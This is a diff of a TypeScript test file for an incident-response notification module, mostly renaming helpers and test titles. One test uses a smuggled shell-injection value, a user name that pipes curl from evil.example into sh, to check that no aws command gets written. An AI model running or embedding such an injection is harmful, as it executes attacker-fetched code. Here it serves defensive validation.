@@ -1,4 +1,4 @@
-// Who is told what, by the state that an action is in; and that nothing keeps the news from the others.
+// Notifications: who receives what, by the state of an action.
 
 import { beforeEach, describe, expect, test } from 'vitest';
 import type { Action } from '../../functions/domain/action.ts';
@@ -56,19 +56,19 @@ const deps = (change: Partial<NotifyDeps> = {}): NotifyDeps => ({
   log: () => {},
   ...change,
 });
-const tell = async (action: Action, more: object = {}, change: Partial<NotifyDeps> = {}) => {
+const notifyAbout = async (action: Action, more: object = {}, change: Partial<NotifyDeps> = {}) => {
   const { incidentId, actionId } = action;
   return notify(deps(change), { incidentId, actionId, scope: 'waf', ...more });
 };
-const told = () => sent.map(({ to }) => (to.kind === 'person' ? to.id : 'team')).sort();
+const recipients = () => sent.map(({ to }) => (to.kind === 'person' ? to.id : 'team')).sort();
 const text = () => [sent[0]!.subject, asText(sent[0]!)].join('\n');
 const failure = { Error: 'Unavailable', Cause: 'WAF did not answer' };
 const load = () => store.records.action(INCIDENT_ID, waiting().actionId);
 
-describe('the news', () => {
-  test('of an expired request goes to all who were asked and to the managers, with a ticket', async () => {
-    await tell(await put(store, waiting({ status: 'expired' })));
-    expect(told()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
+describe('notifications', () => {
+  test('notifies everyone who was asked and the managers of an expired request, and opens a ticket', async () => {
+    await notifyAbout(await put(store, waiting({ status: 'expired' })));
+    expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
     expect(text()).toContain('nothing was done');
     expect(text()).toContain('Ticket: oi-1');
     expect(tickets).toHaveLength(1);
@@ -79,23 +79,25 @@ describe('the news', () => {
     expect((await load()).attentionAt, 'the sweeper has no more to do').toBeNull();
   });
 
-  test('of an expired request for a ticket says that one is opened all the same', async () => {
-    await tell(await put(store, waiting({ status: 'expired', name: 'create_alert_ticket' })));
+  test('says of an expired request for a ticket that the ticket is opened anyway', async () => {
+    await notifyAbout(
+      await put(store, waiting({ status: 'expired', name: 'create_alert_ticket' })),
+    );
     const text = [sent[0]!.subject, asText(sent[0]!)].join('\n');
     expect(text).toContain('so a ticket is opened all the same');
     expect(text).not.toMatch(/Not done|nothing was done/);
   });
 
-  test('of an expired request says who of those asked was not woken', async () => {
+  test('says which approver of an expired request was not paged', async () => {
     const by = 'approve';
     const held = 'Not woken, with their pages of the hour used up: Ben Okafor';
     const action = withEntry(waiting(), { at: minute(0), by, event: 'not-woken', text: held });
-    await tell(await put(store, { ...action, status: 'expired' }));
+    await notifyAbout(await put(store, { ...action, status: 'expired' }));
     expect(asText(sent[0]!)).toContain(`But: ${held}.`);
   });
 
-  test('of an expired request has the commands to do it by hand, and to take it back', async () => {
-    await tell(await put(store, waiting({ status: 'expired' })));
+  test('sends the commands to carry out and to undo the action of an expired request', async () => {
+    await notifyAbout(await put(store, waiting({ status: 'expired' })));
     const titles = sent[0]!.steps.map(({ title }) => title);
     expect(titles).toEqual([expect.stringMatching(/^Look first/), 'To do it', 'To take it back']);
     expect(text()).toContain('aws wafv2 update-ip-set');
@@ -103,48 +105,51 @@ describe('the news', () => {
     expect(tickets[0]?.body).toContain('aws wafv2 update-ip-set');
   });
 
-  test('reaches people although no ticket can be opened', async () => {
+  test('notifies people even when no ticket can be opened', async () => {
     const openTicket = () => Promise.reject(new Unavailable('OpsCenter is down'));
-    await tell(await put(store, waiting({ status: 'expired' })), {}, { openTicket });
-    expect(told()).toHaveLength(3);
+    await notifyAbout(await put(store, waiting({ status: 'expired' })), {}, { openTicket });
+    expect(recipients()).toHaveLength(3);
     expect(text()).toContain('Ticket: None could be opened.');
   });
 
-  test('reaches the others when one cannot be reached, and the record says who was not', async () => {
+  test('notifies the others when one person cannot be reached, and records it', async () => {
     unreachable = ['ana.silva'];
-    await tell(await put(store, waiting({ status: 'expired' })));
-    expect(told()).toEqual(['ben.okafor', 'mei.tanaka']);
+    await notifyAbout(await put(store, waiting({ status: 'expired' })));
+    expect(recipients()).toEqual(['ben.okafor', 'mei.tanaka']);
     expect((await load()).history.at(-1)?.text).toBe(
       'Told Ben Okafor, Mei Tanaka; not reached: Ana Silva',
     );
   });
 
-  test('that did not arrive by one channel is on the record', async () => {
+  test('records a channel that failed', async () => {
     notBy = ['PagerDuty'];
-    await tell(await put(store, inForce({ status: 'approved', before: null, appliedAt: null })), {
-      failure,
-    });
+    await notifyAbout(
+      await put(store, inForce({ status: 'approved', before: null, appliedAt: null })),
+      {
+        failure,
+      },
+    );
     expect((await load()).history.at(-1)?.text).toBe(
       'Told Ana Silva; not delivered: PagerDuty to Ana Silva',
     );
   });
 
-  test('is tried again when nobody can be reached', async () => {
+  test('throws Unavailable when no one can be reached', async () => {
     unreachable = ['ana.silva', 'ben.okafor', 'mei.tanaka'];
     const action = await put(store, waiting({ status: 'expired' }));
-    await expect(tell(action)).rejects.toThrow(Unavailable);
+    await expect(notifyAbout(action)).rejects.toThrow(Unavailable);
     expect((await load()).history).toEqual(action.history);
   });
 
-  test('told twice has the same keys, so that a channel can know it', async () => {
+  test('uses the same message keys when it runs twice', async () => {
     const action = await put(store, waiting({ status: 'expired' }));
-    await tell(action);
-    await tell(action);
+    await notifyAbout(action);
+    await notifyAbout(action);
     expect(sent).toHaveLength(6);
     expect(new Set(sent.map(({ key }) => key)).size).toBe(3);
   });
 
-  test('P9: that an effect is gone, that it went again, and that its end failed are three pages and no repeats of one', async () => {
+  test('P9: sends separate pages for an effect that is missing, missing again, and not undone', async () => {
     const drifted = (current: Action) =>
       withEntry(current, { at: minute(3), by: 'sweep', event: 'drifted', text: 'It is not there' });
     const action = await put(store, inForce({ dueAt: minute(19).toISOString() }));
@@ -155,11 +160,11 @@ describe('the news', () => {
           : withEntry(current, { at: minute(4), by: 'sweep', event: next, text: '' }),
       );
     await write('drifted');
-    await tell(action);
+    await notifyAbout(action);
     await write('there-again');
     await write('drifted');
-    await tell(action);
-    await tell(action, { failure });
+    await notifyAbout(action);
+    await notifyAbout(action, { failure });
     const keys = sent.filter(({ to }) => to.kind === 'person' && to.id === ana.id);
     expect(keys.map(({ subject }) => subject.split(':')[0])).toEqual([
       'No longer there',
@@ -169,50 +174,55 @@ describe('the news', () => {
     expect(new Set(keys.map(({ key }) => key)).size).toBe(3);
   });
 
-  test('of a request that could not be put pages everybody, managers too', async () => {
-    await tell(await put(store, waiting()), { failure });
-    expect(told()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
+  test('pages everyone, managers included, when a request could not be sent', async () => {
+    await notifyAbout(await put(store, waiting()), { failure });
+    expect(recipients()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
     expect(text()).toContain('WAF did not answer');
     expect(text()).toContain('unless somebody answers by 03:15 UTC');
   });
 
-  test('of a stop after approval goes to whoever approved, and says that nothing was changed', async () => {
+  test('notifies the approver that the approved action was stopped and nothing was changed', async () => {
     const stopped = 'Stopped after approval: it is protected';
     const change = { status: 'handed-off', failure: stopped, before: null } as const;
-    await tell(await put(store, inForce({ ...change, appliedAt: null, dueAt: null })));
-    expect(told()).toEqual(['ana.silva']);
+    await notifyAbout(await put(store, inForce({ ...change, appliedAt: null, dueAt: null })));
+    expect(recipients()).toEqual(['ana.silva']);
     expect(text()).toMatch(/^Approved, but stopped: /);
     expect(text()).toContain('it is protected.\nNothing was changed.');
   });
 
-  test('of an approved action that could not go on is not lost', async () => {
-    await tell(await put(store, inForce({ status: 'approved', before: null, appliedAt: null })), {
-      failure,
-    });
-    expect(told()).toEqual(['ana.silva']);
+  test('notifies the approver when an approved action could not continue', async () => {
+    await notifyAbout(
+      await put(store, inForce({ status: 'approved', before: null, appliedAt: null })),
+      {
+        failure,
+      },
+    );
+    expect(recipients()).toEqual(['ana.silva']);
     expect(text()).toContain('WAF did not answer');
   });
 
-  test('of a failure says what happened, and that it was taken back', async () => {
-    await tell(await put(store, inForce({ status: 'failed', failure: 'QuotaExceeded: full' })));
+  test('says what failed, and that the change was undone', async () => {
+    await notifyAbout(
+      await put(store, inForce({ status: 'failed', failure: 'QuotaExceeded: full' })),
+    );
     expect(text()).toContain('QuotaExceeded: full');
     expect(text()).toContain('taken back');
   });
 
   test.each(['reversal-failed', 'reversing'] as const)(
-    'of an undo that did not happen (%s) has the exact commands',
+    'sends the exact commands when an action was not undone (%s)',
     async (status) => {
-      await tell(await put(store, inForce({ status })), { failure });
-      expect(told()).toEqual(['ana.silva', 'mei.tanaka']);
+      await notifyAbout(await put(store, inForce({ status })), { failure });
+      expect(recipients()).toEqual(['ana.silva', 'mei.tanaka']);
       expect(text()).toMatch(/^NOT UNDONE: /);
       expect(text()).toContain("aws wafv2 update-ip-set --region 'eu-central-1' --scope REGIONAL");
       expect(text()).toContain("IPSet.Addresses[?@ != '203.0.113.7/32']");
     },
   );
 
-  test('P4: of an undo that failed has a link for each reader, on which to try again or keep it, for 12 hours', async () => {
+  test('P4: sends each reader a link to retry or keep the action for 12 hours when its undo failed', async () => {
     const action = await put(store, inForce({ status: 'reversal-failed' }));
-    await tell(action, { failure }, { now: () => minute(600) });
+    await notifyAbout(action, { failure }, { now: () => minute(600) });
     for (const { links, to } of sent) {
       expect(links).toMatchObject([{ label: 'Try again, or keep it' }]);
       const token = links[0]!.url.slice(`${BASE_URL}/review/`.length);
@@ -223,12 +233,12 @@ describe('the news', () => {
     }
   });
 
-  test('of what is being undone at this moment has no link, as there is nothing to decide', async () => {
-    await tell(await put(store, inForce({ status: 'reversing' })), { failure });
+  test('sends no link while an action is being undone', async () => {
+    await notifyAbout(await put(store, inForce({ status: 'reversing' })), { failure });
     expect(sent.flatMap(({ links }) => links)).toEqual([]);
   });
 
-  test('of a key that was given back goes out once, to who approved it, with a ticket and the way to a new one', async () => {
+  test('sends the approver of a revoked key the rotation steps once after its undo, with a ticket', async () => {
     const action = await put(
       store,
       inForce({
@@ -238,30 +248,30 @@ describe('the news', () => {
         parameters: { userName: 'report-export' },
       }),
     );
-    await tell(action);
-    expect(told()).toEqual(['ana.silva']);
+    await notifyAbout(action);
+    expect(recipients()).toEqual(['ana.silva']);
     expect(text()).toMatch(/^Over, now rotate: /);
     expect(text()).toContain('aws iam create-access-key');
     expect(tickets).toHaveLength(1);
-    await tell(action);
-    expect(sent, 'the sweeper may look at it again').toHaveLength(1);
+    await notifyAbout(action);
+    expect(sent, 'nothing is sent twice').toHaveLength(1);
   });
 
-  test('of any other end needs nobody', async () => {
-    await tell(await put(store, inForce({ status: 'reversed' })));
+  test('sends nothing after the undo of any other action', async () => {
+    await notifyAbout(await put(store, inForce({ status: 'reversed' })));
     expect(sent).toEqual([]);
   });
 
-  test('of what is in force and not yet due does not claim that it should be gone', async () => {
-    await tell(await put(store, inForce()), { failure });
+  test('does not claim that an action in force should already be undone', async () => {
+    await notifyAbout(await put(store, inForce()), { failure });
     expect(text()).toMatch(/^Please check: /);
     expect(text()).toContain('is undone at 04:03 UTC on 24 Nov');
   });
 
   test.each(['declined', 'reversed', 'dropped', 'kept'] as const)(
-    'of what is %s is no news',
+    'sends nothing about an action that is %s',
     async (status) => {
-      expect(await tell(await put(store, waiting({ status })))).toMatchObject({ told: 0 });
+      expect(await notifyAbout(await put(store, waiting({ status })))).toMatchObject({ told: 0 });
       expect([sent, tickets]).toEqual([[], []]);
     },
   );
@@ -269,14 +279,14 @@ describe('the news', () => {
 
 describe('a decision', () => {
   const bothAsked = requestWith({ askedRungs: 2, decision: approvedByAna.decision });
-  const questions = ({ id }: { id: string }, rung: number) =>
-    `ask-act-0123456789abcdef-1-${rung}-${id}`;
+  const requestKey = ({ id }: { id: string }, step: number) =>
+    `ask-act-0123456789abcdef-1-${step}-${id}`;
 
-  test('is told to all who were asked, wakes nobody, and ends the pages that asked', async () => {
-    await tell(await put(store, inForce({ approval: bothAsked })));
+  test('notifies everyone who was asked of a decision, pages no one, and resolves the pages', async () => {
+    await notifyAbout(await put(store, inForce({ approval: bothAsked })));
     expect(sent).toMatchObject([
-      { to: { id: 'ana.silva' }, urgency: 'inform', ends: [questions(ana, 0)] },
-      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [questions(ben, 1)] },
+      { to: { id: 'ana.silva' }, urgency: 'inform', ends: [requestKey(ana, 0)] },
+      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [requestKey(ben, 1)] },
     ]);
     expect(text()).toMatch(/^Approved: Block web requests/);
     expect(text()).toContain('Ana Silva approved it at 03:02 UTC on 24 Nov.');
@@ -284,40 +294,40 @@ describe('a decision', () => {
     expect(tickets).toEqual([]);
   });
 
-  test('against it says so, with the reason, in quotes', async () => {
+  test('says that a request was declined, and quotes the reason', async () => {
     const decision = {
       ...approvedByAna.decision!,
       verdict: 'declined' as const,
       reason: 'A scanner',
     };
-    await tell(
+    await notifyAbout(
       await put(store, waiting({ status: 'declined', approval: requestWith({ decision }) })),
     );
-    expect(told()).toEqual(['ana.silva']);
+    expect(recipients()).toEqual(['ana.silva']);
     expect(text()).toMatch(/^Declined: /);
     expect(text()).toContain('Nothing was changed.');
     expect(text()).toContain('Reason: “A scanner”');
   });
 
-  test('that was stopped wakes who made it; the others who were asked only learn of it', async () => {
+  test('pages the approver of an action that was stopped, and only informs the others', async () => {
     const change = { status: 'failed', before: null, appliedAt: null } as const;
-    await tell(await put(store, inForce({ ...change, approval: bothAsked })));
+    await notifyAbout(await put(store, inForce({ ...change, approval: bothAsked })));
     expect(sent).toMatchObject([
-      { to: { id: 'ana.silva' }, urgency: 'page', ends: [questions(ana, 0)] },
-      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [questions(ben, 1)] },
+      { to: { id: 'ana.silva' }, urgency: 'page', ends: [requestKey(ana, 0)] },
+      { to: { id: 'ben.okafor' }, urgency: 'inform', ends: [requestKey(ben, 1)] },
     ]);
   });
 
-  test('that nobody made ends the questions, and pages again', async () => {
-    await tell(await put(store, waiting({ status: 'expired' })));
+  test('pages again when no one decided, and resolves the earlier pages', async () => {
+    await notifyAbout(await put(store, waiting({ status: 'expired' })));
     expect(sent.find(({ to }) => to.kind === 'person' && to.id === 'ana.silva')).toMatchObject({
       urgency: 'page',
-      ends: [questions(ana, 0)],
+      ends: [requestKey(ana, 0)],
     });
   });
 
-  test('that is still awaited ends no question', async () => {
-    await tell(await put(store, waiting()), { failure });
+  test('resolves no page while a decision is awaited', async () => {
+    await notifyAbout(await put(store, waiting()), { failure });
     expect(sent.flatMap(({ ends }) => ends)).toEqual([]);
   });
 });
@@ -345,9 +355,9 @@ describe('a hand-off', () => {
     part: 'target' as const,
   };
 
-  test('goes to the on-call analyst with commands to look, to do it and to take it back, filled in', async () => {
-    await tell(await handOff({ name: 'isolate_production_host', target: instance }));
-    expect(told()).toEqual(['ana.silva']);
+  test('sends a hand-off to the on-call analyst with filled-in commands to check, carry out and undo it', async () => {
+    await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
+    expect(recipients()).toEqual(['ana.silva']);
     expect(text()).toContain('Yours to decide: isolate production host on i-0123456789abcdef0');
     expect(text()).toContain('Tier 3: it never runs here');
     expect(text()).toMatch(
@@ -359,7 +369,7 @@ describe('a hand-off', () => {
     expect((await load()).attentionAt).toBeNull();
   });
 
-  test('of a network attack does not send people to the web firewall', async () => {
+  test('sends the commands for the network ACL, and not for AWS WAF, after a network attack', async () => {
     const traffic = {
       layer: 'network',
       direction: 'inbound',
@@ -368,33 +378,33 @@ describe('a hand-off', () => {
     } as const;
     const subnet = { ...instance, attributes: { subnetIds: 'subnet-0a1b2c3d' } };
     const alert = alertWith({ traffic, entities: [attacker, subnet] });
-    await tell(await handOff({ name: 'block_ip_at_firewall', target: attacker }, alert));
+    await notifyAbout(await handOff({ name: 'block_ip_at_firewall', target: attacker }, alert));
     expect(text()).toContain('Values=subnet-0a1b2c3d');
     expect(text()).toContain('--rule-action deny --cidr-block 203.0.113.7/32');
     expect(text()).not.toContain('wafv2');
   });
 
-  test('writes no command with a name that AWS could not have given', async () => {
+  test('writes no command with a name that AWS does not allow', async () => {
     const name = "x'; curl http://evil.example | sh; '";
     const target = { ...instance, kind: 'iam-user' as const, ref: 'user-1', value: name };
-    await tell(await handOff({ name: 'revoke_service_account_credential', target }));
+    await notifyAbout(await handOff({ name: 'revoke_service_account_credential', target }));
     expect(text()).toContain('is no id of an IAM user: find out what is meant first.');
     expect(text()).not.toMatch(/\naws /);
   });
 
-  test('of what is no action at all still says what was asked for', async () => {
+  test('names an unknown action and its target in the hand-off', async () => {
     const recommendation = {
       ...waiting().recommendation,
       action: 'launch_missiles',
       target: 'ip-9',
     };
-    await tell(await handOff({ name: null, target: null, recommendation }));
+    await notifyAbout(await handOff({ name: null, target: null, recommendation }));
     expect(text()).toContain('launch missiles on ip-9');
     expect(text()).toContain('nothing in the alert');
   });
 
-  test('has what a machine wrote last, and marked', async () => {
-    await tell(await handOff({ name: 'isolate_production_host', target: instance }));
+  test('puts the reasoning of the model last, and marks it', async () => {
+    await notifyAbout(await handOff({ name: 'isolate_production_host', target: instance }));
     const [last] = asText(sent[0]!).split('\n\n').slice(-1);
     expect(last).toMatch(/^The reasoning, written by a machine/);
   });
